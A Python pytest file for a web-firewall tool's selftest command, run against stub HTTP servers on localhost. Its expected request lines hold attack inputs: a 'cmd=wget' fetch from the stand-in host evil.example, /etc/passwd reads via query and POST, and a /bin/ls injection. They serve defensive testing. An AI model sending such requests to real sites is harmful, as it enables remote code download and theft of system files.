"""``secfilter selftest``: against tiny HTTP servers on 127.0.0.1 (no Apache).

One server decides with the engine itself under the article's configuration,
so the shipped battery must pass against it: that checks the battery's
expectations and the wire format together.  Others answer 200 to everything
(an unprotected site), redirect, stall, or close, and one records the bytes
it receives, to prove they arrive exactly as the battery writes them.
"""

from __future__ import annotations

import socket
import socketserver
import threading
from collections.abc import Callable, Iterator
from importlib import resources
from pathlib import Path

import pytest

from apache_secfilter import inspect, load_policy
from apache_secfilter.cli import selftest
from apache_secfilter.cli.main import main
from apache_secfilter.request.wire import parse_raw_request

Responder = Callable[[bytes], bytes]


def reply(status: int, extra: str = "") -> bytes:
    return (f"HTTP/1.1 {status} X\r\n{extra}Content-Length: 0\r\nConnection: close\r\n\r\n"
            .encode())


def read_request(conn: socket.socket) -> bytes:
    """Head and Content-Length body, as received."""
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = conn.recv(65536)
        if not chunk:
            return data
        data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    length = 0
    for line in head.split(b"\r\n")[1:]:
        name, _, value = line.partition(b":")
        if name.strip().lower() == b"content-length":
            length = int(value)
    while len(body) < length:
        chunk = conn.recv(65536)
        if not chunk:
            break
        body += chunk
    return head + b"\r\n\r\n" + body


class Server:
    """A threaded TCP server on 127.0.0.1 that records each request."""

    def __init__(self, respond: Responder) -> None:
        self.requests: list[bytes] = []
        outer = self

        class Handler(socketserver.BaseRequestHandler):
            def handle(self) -> None:
                data = read_request(self.request)
                if not data:
                    return  # the reachability check connects and closes
                outer.requests.append(data)
                answer = respond(data)
                if answer:
                    self.request.sendall(answer)

        socketserver.ThreadingTCPServer.allow_reuse_address = True
        self.server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, args=(0.02,),
                                       daemon=True)
        self.thread.start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/"

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def serve() -> Iterator[Callable[[Responder], Server]]:
    servers: list[Server] = []

    def start(respond: Responder) -> Server:
        servers.append(Server(respond))
        return servers[-1]

    yield start
    for server in servers:
        server.close()


@pytest.fixture(scope="module")
def article_policy(tmp_path_factory: pytest.TempPathFactory):
    """The article's configuration, as `secfilter serve --demo` and the Debian package use it."""
    demo = resources.files("apache_secfilter") / "data" / "demo" / "demo.conf"
    folder = tmp_path_factory.mktemp("article")
    path = folder / "demo.conf"
    path.write_text(demo.read_text(encoding="utf-8").replace("@LOG_DIR@", str(folder)),
                    encoding="utf-8")
    return load_policy(str(path))


def engine_responder(policy) -> Responder:
    def respond(data: bytes) -> bytes:
        request, body = parse_raw_request(data)
        verdict = inspect(policy, request, body)
        return reply(verdict.status if verdict.blocks and verdict.status else 200)
    return respond


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, list[str], str]:
    code = main(["selftest", *argv])
    out, err = capsys.readouterr()
    return code, out.splitlines(), err


def counts() -> tuple[int, int]:
    """(attacks, ordinary requests) in the shipped battery."""
    cases = selftest.load_battery()
    attacks = sum(1 for case in cases if case.status is not None)
    return attacks, len(cases) - attacks


# -- the whole battery ----------------------------------------------------------------------
def test_the_battery_passes_against_the_engine_under_the_article_rules(
        serve, article_policy, capsys) -> None:
    server = serve(engine_responder(article_policy))
    code, lines, err = run(capsys, server.url, "--timeout", "5")
    assert code == 0, "\n".join(lines) + err
    total = sum(counts())
    assert lines[-1] == f"{total} passed, 0 failed"
    assert len([line for line in lines if line.startswith("PASS  ")]) == total


def test_an_unprotected_site_fails_every_attack(serve, capsys) -> None:
    server = serve(lambda data: reply(200))
    code, lines, _ = run(capsys, server.url, "--timeout", "5")
    attacks, ordinary = counts()
    assert code == 1
    assert lines[-1] == f"{ordinary} passed, {attacks} failed"
    failing = [line for line in lines if line.startswith("FAIL  passwd-in-query ")]
    assert failing and "200 (expected 500)" in failing[0]


def test_the_battery_has_attacks_and_ordinary_requests() -> None:
    attacks, ordinary = counts()
    assert attacks >= 20 and ordinary >= 3


# -- the wire -------------------------------------------------------------------------------
def test_requests_reach_the_server_exactly_as_written(serve, capsys) -> None:
    server = serve(lambda data: reply(500))
    code, _, _ = run(capsys, server.url, "--case", "invalid-url-encoding", "--case",
                     "url-encoded", "--case", "plus-as-space")
    assert code == 0
    lines = sorted(request.split(b"\r\n", 1)[0] for request in server.requests)
    assert lines == [b"GET /index.html?q=%zz HTTP/1.1",
                     b"GET /vulnerable.php?cmd=wget+http://evil.example/x.pl HTTP/1.1",
                     b"GET /vulnerable.php?file=%2fetc%2Fpasswd HTTP/1.1"]
    assert all(f"Host: 127.0.0.1:{server.port}\r\n".encode() in r for r in server.requests)


def test_a_post_body_is_sent_whole_with_its_length(serve, capsys) -> None:
    server = serve(lambda data: reply(500))
    run(capsys, server.url, "--case", "passwd-in-post")
    (request,) = server.requests
    assert request.startswith(b"POST /vulnerable.php HTTP/1.1\r\n")
    assert b"Content-Length: 20\r\n" in request
    assert request.endswith(b"\r\n\r\nfile=%2Fetc%2Fpasswd")


def test_a_raw_case_gets_the_base_path_and_its_blank_line(serve, capsys) -> None:
    server = serve(lambda data: reply(500))
    code, _, _ = run(capsys, server.url + "app", "--case", "http10-without-host")
    assert code == 0
    assert server.requests == [
        b"GET /app/vulnerable.php?file=/etc/passwd HTTP/1.0\r\nConnection: close\r\n\r\n"]


def test_a_base_path_prefixes_every_uri(serve, capsys) -> None:
    server = serve(lambda data: reply(200))
    run(capsys, server.url + "shop/", "--case", "plain-page", "--case", "bin-ls")
    lines = sorted(request.split(b"\r\n", 1)[0] for request in server.requests)
    assert lines == [b"GET /shop/ HTTP/1.1", b"GET /shop/vulnerable.php?cmd=/bin/ls%20-la HTTP/1.1"]


def test_a_redirect_is_not_followed(serve, capsys) -> None:
    server = serve(lambda data: reply(302, "Location: http://192.0.2.1/elsewhere\r\n"))
    code, lines, _ = run(capsys, server.url, "--case", "passwd-in-query")
    assert code == 1
    assert "302 (expected 500)" in lines[1]
    assert len(server.requests) == 1


def test_an_interim_100_continue_is_skipped(serve, capsys) -> None:
    server = serve(lambda data: b"HTTP/1.1 100 Continue\r\n\r\n" + reply(500))
    code, lines, _ = run(capsys, server.url, "--case", "bin-ls")
    assert code == 0 and lines[-1] == "1 passed, 0 failed"


def test_a_server_that_does_not_answer_fails_the_case_after_the_timeout(serve, capsys) -> None:
    release = threading.Event()

    def stall(data: bytes) -> bytes:
        release.wait(5)
        return b""

    server = serve(stall)
    try:
        code, lines, _ = run(capsys, server.url, "--timeout", "0.3", "--case", "bin-ls")
    finally:
        release.set()
    assert code == 1
    assert "no answer within 0.3 s (expected 500)" in lines[1]
    assert lines[-1] == "0 passed, 1 failed"


def test_a_connection_closed_without_an_answer_fails_the_case(serve, capsys) -> None:
    server = serve(lambda data: b"")
    code, lines, _ = run(capsys, server.url, "--case", "plain-page")
    assert code == 1
    assert "closed the connection without answering" in lines[1]


def test_garbage_instead_of_http_fails_the_case(serve, capsys) -> None:
    server = serve(lambda data: b"SSH-2.0-OpenSSH\r\n\r\n")
    code, lines, _ = run(capsys, server.url, "--case", "plain-page")
    assert code == 1 and "not an HTTP response" in lines[1]


# -- usage ----------------------------------------------------------------------------------
def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def test_an_unreachable_server_is_exit_status_2(capsys) -> None:
    code, lines, err = run(capsys, f"http://127.0.0.1:{free_port()}/")
    assert code == 2 and lines == []
    assert "cannot connect to 127.0.0.1 port" in err


@pytest.mark.parametrize("url, message", [
    ("https://127.0.0.1/", "not an http://HOST[:PORT]/ URL"),
    ("127.0.0.1:8080", "not an http://HOST[:PORT]/ URL"),
    ("http://127.0.0.1:8080/?x=1", "takes no query"),
    ("http://127.0.0.1:99999/", "not a usable URL"),
])
def test_a_bad_url_is_exit_status_2(capsys, url: str, message: str) -> None:
    code, _, err = run(capsys, url)
    assert code == 2 and message in err


def test_an_unknown_case_is_exit_status_2_and_lists_the_cases(serve, capsys) -> None:
    server = serve(lambda data: reply(200))
    code, _, err = run(capsys, server.url, "--case", "no-such-case")
    assert code == 2
    assert "no case named no-such-case" in err and "passwd-in-query" in err
    assert server.requests == []


def test_a_timeout_must_be_positive(capsys) -> None:
    code, _, err = run(capsys, "http://127.0.0.1:1/", "--timeout", "0")
    assert code == 2 and "--timeout" in err


# -- the battery format ---------------------------------------------------------------------
def test_a_case_without_an_expectation_is_refused() -> None:
    with pytest.raises(selftest.SelftestError, match="expect must be"):
        selftest.parse_battery("cases:\n  - {name: x, request: {uri: a}}\n", "f.yaml")


def test_a_case_with_a_bad_request_is_refused() -> None:
    with pytest.raises(selftest.SelftestError, match="request must be"):
        selftest.parse_battery("cases:\n  - {name: x, request: 3, expect: {status: 500}}\n",
                               "f.yaml")


def test_a_file_without_cases_is_refused() -> None:
    with pytest.raises(selftest.SelftestError, match="list of cases"):
        selftest.parse_battery("- 1\n", "f.yaml")


def test_every_shipped_file_is_yaml_with_a_comment_header() -> None:
    folder = Path(str(resources.files("apache_secfilter") / "data" / "selftest"))
    files = sorted(folder.glob("*.yaml"))
    assert [f.name for f in files] == ["article.yaml", "benign.yaml", "evasions.yaml"]
    for path in files:
        assert path.read_text(encoding="utf-8").startswith("# secfilter selftest:")
